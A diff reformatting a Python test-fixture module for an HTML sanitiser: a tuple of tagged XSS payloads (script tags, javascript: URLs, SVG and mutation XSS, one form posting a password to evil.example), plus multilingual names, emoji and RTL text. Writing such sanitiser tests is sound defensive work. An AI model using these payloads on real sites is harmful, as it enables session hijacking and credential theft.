@@ -2,12 +2,13 @@
 
 Each XSS payload is tagged with the hard case it exercises (SPEC §5 "Remove").
 """
+
 from __future__ import annotations
 
 #: (hard case, HTML fragment). Every one must come out of sanitising unable to run script.
 XSS_PAYLOADS: tuple[tuple[str, str], ...] = (
     ("xss_script", "<script>alert(document.cookie)</script>"),
-    ("xss_script", "<p>Harga final<script src=\"https://evil.example/x.js\"></script> sudah dikirim.</p>"),
+    ("xss_script", '<p>Harga final<script src="https://evil.example/x.js"></script> sudah dikirim.</p>'),
     ("xss_script", "<<script>script>alert(1)<</script>/script>"),
     ("xss_script", "<scr<script>ipt>alert(1)</script>"),
     ("xss_script", "<template><script>alert(1)</script></template>"),
@@ -24,19 +25,31 @@ XSS_PAYLOADS: tuple[tuple[str, str], ...] = (
     ("xss_vbscript_url", '<a href="vbscript:msgbox(1)">vb</a>'),
     ("xss_data_url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lampiran</a>'),
     ("xss_data_url", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>'),
-    ("xss_svg", "<svg onload=alert(1)><circle r=\"10\"/></svg>"),
+    ("xss_svg", '<svg onload=alert(1)><circle r="10"/></svg>'),
     ("xss_svg", "<svg><script>alert(1)</script></svg>"),
     ("xss_svg", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
     ("xss_iframe", '<iframe src="javascript:alert(1)"></iframe>'),
     ("xss_iframe", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
-    ("xss_iframe", '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>'),
+    (
+        "xss_iframe",
+        '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
+    ),
     ("xss_style", '<style>body{background:url("javascript:alert(1)")}</style>'),
     ("xss_style", '<div style="background-image: url(javascript:alert(1))">styled</div>'),
     ("xss_mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
-    ("xss_mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
+    (
+        "xss_mutation",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    ),
     ("xss_mutation", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
-    ("xss_mutation", '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></form></mtext></math></form>'),
-    ("xss_other", '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">Kirim</button></form>'),
+    (
+        "xss_mutation",
+        '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></form></mtext></math></form>',
+    ),
+    (
+        "xss_other",
+        '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">Kirim</button></form>',
+    ),
     ("xss_other", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'),
     ("xss_other", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
     ("xss_other", "<!--<img src=x onerror=alert(1)>--><p>komentar</p>"),
@@ -65,16 +78,58 @@ RTL_SENTENCES: tuple[str, ...] = (
     "تم استلام الدفعة الأولى، شكرا لكم 123 ريال.",
 )
 EMOJI: tuple[str, ...] = (
-    "🙂", "👍🏽", "🔥", "✅", "📞", "👨‍👩‍👧‍👦", "🇮🇩", "❤️", "🤝", "📎", "🧾", "🚚",
+    "🙂",
+    "👍🏽",
+    "🔥",
+    "✅",
+    "📞",
+    "👨‍👩‍👧‍👦",
+    "🇮🇩",
+    "❤️",
+    "🤝",
+    "📎",
+    "🧾",
+    "🚚",
 )
 
 FIRST_NAMES: tuple[str, ...] = (
-    "Budi", "Siti", "Ani", "Agus", "Dewi", "Rizky", "Putri", "Wahyu", "Nur'aini", "Eko",
-    "Sri", "Bambang", "Ayu", "Yohanes", "Ketut", "Made", "Sarah", "Michael", "Chen", "Fatimah",
+    "Budi",
+    "Siti",
+    "Ani",
+    "Agus",
+    "Dewi",
+    "Rizky",
+    "Putri",
+    "Wahyu",
+    "Nur'aini",
+    "Eko",
+    "Sri",
+    "Bambang",
+    "Ayu",
+    "Yohanes",
+    "Ketut",
+    "Made",
+    "Sarah",
+    "Michael",
+    "Chen",
+    "Fatimah",
 )
 LAST_NAMES: tuple[str, ...] = (
-    "Santoso", "Rahmawati", "Wijaya", "Saputra", "Hidayat", "Kusuma", "Pratama", "Nugroho",
-    "Siregar", "Simanjuntak", "Tan", "O'Neil", "Lim", "Harahap", "Gunawan",
+    "Santoso",
+    "Rahmawati",
+    "Wijaya",
+    "Saputra",
+    "Hidayat",
+    "Kusuma",
+    "Pratama",
+    "Nugroho",
+    "Siregar",
+    "Simanjuntak",
+    "Tan",
+    "O'Neil",
+    "Lim",
+    "Harahap",
+    "Gunawan",
 )
 #: Names that are hard to carry through HTML attributes and text.
 ODD_NAMES: tuple[str, ...] = ("王小明", "محمد العلي", 'Ani "Mbak" & Co', "Zoë Ñúñez", "Dian 🌸")
